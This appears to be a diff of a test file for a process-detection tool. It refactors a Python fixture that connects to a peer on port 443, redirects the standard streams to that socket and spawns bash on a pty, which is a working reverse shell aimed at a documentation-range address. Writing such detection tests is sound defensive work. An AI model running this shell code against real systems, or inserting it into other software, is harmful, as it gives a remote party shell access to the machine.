@@ -11,6 +11,7 @@ import { createKnowledge } from "../../src/knowledge/knowledge.js";
 import { createServiceRegistry } from "../../src/knowledge/service-registry.js";
 import type { Socket } from "../../src/model/socket.js";
 import { createRemotePeer, type RemotePeer } from "../helpers/remote-peer.js";
+import { PY_SHELL_ON_PTY } from "../helpers/plant.js";
 
 // Live scenarios of issue 12 (items 1 and 2), with real processes started from realistic places (/opt,
 // /var/tmp, a home directory) and remote ends at a documentation address inside a network namespace
@@ -68,14 +69,7 @@ time.sleep(30)
 out = os.fdopen(os.dup(1), "w")
 s = socket.create_connection((PEER, 443), timeout=10)
 for f in (0, 1, 2): os.dup2(s.fileno(), f)
-pid, master = pty.fork()
-if pid == 0:
-    signal.alarm(30)
-    os.execv("/bin/bash", ["bash", "--norc", "--noprofile"])
-buf, end = b"", time.time() + 10
-while b"# " not in buf and b"$ " not in buf and time.time() < end:
-    if select.select([master], [], [], 0.5)[0]: buf += os.read(master, 1024)
-out.write(json.dumps({"local": s.getsockname()[1], "pids": [pid]}) + "\\n"); out.flush()
+${PY_SHELL_ON_PTY}out.write(json.dumps({"local": s.getsockname()[1], "pids": [pid]}) + "\\n"); out.flush()
 while True:
     if select.select([master], [], [], 1)[0]:
         try: os.read(master, 1024)
